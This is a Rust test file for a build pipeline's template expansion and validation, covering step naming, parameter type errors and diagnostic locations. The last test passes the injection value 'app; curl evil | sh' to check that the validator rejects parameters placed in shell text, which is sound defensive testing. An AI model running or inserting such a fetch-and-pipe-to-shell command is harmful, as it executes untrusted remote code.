use std::path::{Path, PathBuf};
use std::sync::Arc;

use crate::diagnostic::SourceFile;
use crate::digest::Digest;
use crate::pipeline::validate::{Location, parse};
use crate::pipeline::{Pipeline, StepKind};
use crate::template::{Loaded, Pin, Templates, manifest};

const TEMPLATE: &str = r#"[template]
name = "acme/make"
version = "1.2.0"

[parameters.target]
type = "string"

[parameters.jobs]
type = "integer"
default = 2

[parameters.flags]
type = "list"
default = []

[steps.configure]
run = ["./configure", "${{ flags }}"]
outputs = ["out/config"]

[steps.compile]
run = ["make", "-j", "${{ jobs }}", "${{ target }}"]
inputs = ["out/config"]
outputs = ["out/${{ target }}"]
needs = ["configure"]
"#;

fn templates(text: &str) -> Templates {
    let manifest = manifest::parse(text).expect("a valid manifest");
    let loaded = Loaded {
        manifest,
        source: SourceFile {
            path: PathBuf::from("acme/make/template.toml"),
            text: Arc::from(text),
        },
        pin: Pin {
            name: "acme/make".to_owned(),
            version: "1.2.0".to_owned(),
            digest: Digest::of_bytes(text.as_bytes()),
            registry: "local".to_owned(),
        },
        uri: "file:///registry/packs/acme/make/1.2.0.tar".to_owned(),
        publisher_key: "abc".to_owned(),
        files: None,
    };
    Templates::from([("acme/make@^1.2".to_owned(), Ok(loaded))])
}

fn parse_with(pipeline: &str, template: &str) -> Result<Pipeline, String> {
    let source = SourceFile {
        path: PathBuf::from("p.toml"),
        text: Arc::from(pipeline),
    };
    let templates = templates(template);
    let location = Location {
        file: Path::new("/w/p.toml"),
        default_root: Path::new("/w"),
        templates: &templates,
    };
    parse(&source, &location).map_err(|diagnostics| diagnostics.render())
}

#[test]
fn a_use_adds_the_templates_steps_filled_and_named_under_it() {
    let pipeline = parse_with(
        "[pipeline]\nname = \"p\"\n\n[steps.prepare]\nrun = \"mkdir -p out\"\noutputs = [\"out/ready\"]\n\n[steps.build]\nuses = \"acme/make@^1.2\"\nwith = { target = \"app\", flags = [\"--static\", \"--quiet\"] }\nneeds = [\"prepare\"]\n\n[steps.ship]\nrun = \"true\"\ninputs = [\"out/app\"]\nneeds = [\"build\"]\n",
        TEMPLATE,
    )
    .expect("valid");
    let names: Vec<&str> = pipeline
        .steps
        .iter()
        .map(|step| step.name.as_str())
        .collect();
    assert_eq!(
        names,
        ["prepare", "build.configure", "build.compile", "ship"]
    );
    let compile = &pipeline.steps[2];
    let StepKind::Exec(exec) = &compile.kind else {
        panic!("an exec step")
    };
    assert_eq!(exec.argv, ["make", "-j", "2", "app"]);
    let needs: Vec<&str> = compile
        .needs
        .iter()
        .map(|need| need.name.as_str())
        .collect();
    assert_eq!(needs, ["build.configure", "prepare"]);
    let template = compile.template.as_ref().expect("its template");
    assert_eq!(
        (template.pin.name.as_str(), template.step.as_str()),
        ("acme/make", "compile")
    );
    let ship: Vec<&str> = pipeline.steps[3]
        .needs
        .iter()
        .map(|need| need.name.as_str())
        .collect();
    assert_eq!(ship, ["build.configure", "build.compile"]);
}

#[test]
fn a_mistake_in_the_use_is_at_the_pipelines_line() {
    let error = parse_with(
        "[pipeline]\nname = \"p\"\n\n[steps.build]\nuses = \"acme/make@^1.2\"\nwith = { targte = \"app\", jobs = \"four\" }\nrun = \"make\"\n",
        TEMPLATE,
    )
    .expect_err("three mistakes");
    assert!(
        error.contains("p.toml:6:10: error: `acme/make` takes no parameter `targte`"),
        "{error}"
    );
    assert!(error.contains("did you mean `target`?"), "{error}");
    assert!(
        error.contains("p.toml:6:33: error: `jobs`: expected integer, found string"),
        "{error}"
    );
    assert!(
        error.contains("p.toml:7:1: error: `run` in a step that uses a template"),
        "{error}"
    );
}

#[test]
fn a_missing_parameter_and_an_unresolved_template_are_named() {
    let error = parse_with(
        "[pipeline]\nname = \"p\"\n\n[steps.build]\nuses = \"acme/make@^1.2\"\n\n[steps.other]\nuses = \"acme/make@^9\"\n",
        TEMPLATE,
    )
    .expect_err("two mistakes");
    assert!(
        error.contains("p.toml:4:8: error: `acme/make` needs the parameter `target` (string)"),
        "{error}"
    );
    assert!(
        error.contains("p.toml:8:8: error: `acme/make@^9` was not resolved"),
        "{error}"
    );
}

#[test]
fn a_mistake_in_the_templates_steps_is_at_the_templates_line() {
    let broken = TEMPLATE.replace(
        "inputs = [\"out/config\"]",
        "inputs = [\"out/config\"]\ntimeout = \"soon\"",
    );
    let error = parse_with(
        "[pipeline]\nname = \"p\"\n\n[steps.build]\nuses = \"acme/make@^1.2\"\nwith = { target = \"app\" }\n",
        &broken,
    )
    .expect_err("a bad timeout");
    assert!(
        error.contains("p.toml:4:8: error: `acme/make` has mistakes in its steps (below)"),
        "{error}"
    );
    assert!(
        error.contains("acme/make/template.toml:23:11: error: invalid timeout"),
        "{error}"
    );
    assert!(
        error.contains("acme/make@1.2.0 used by `[steps.build]` at p.toml:4:8"),
        "{error}"
    );
}

#[test]
fn a_parameter_in_shell_text_is_refused_at_the_templates_line() {
    let shell = TEMPLATE.replace(
        "run = [\"make\", \"-j\", \"${{ jobs }}\", \"${{ target }}\"]",
        "run = \"make ${{ target }}\"",
    );
    let error = parse_with(
        "[pipeline]\nname = \"p\"\n\n[steps.build]\nuses = \"acme/make@^1.2\"\nwith = { target = \"app; curl evil | sh\" }\n",
        &shell,
    )
    .expect_err("shell text");
    assert!(
        error.contains("acme/make/template.toml:21:7: error: a parameter in shell text"),
        "{error}"
    );
}
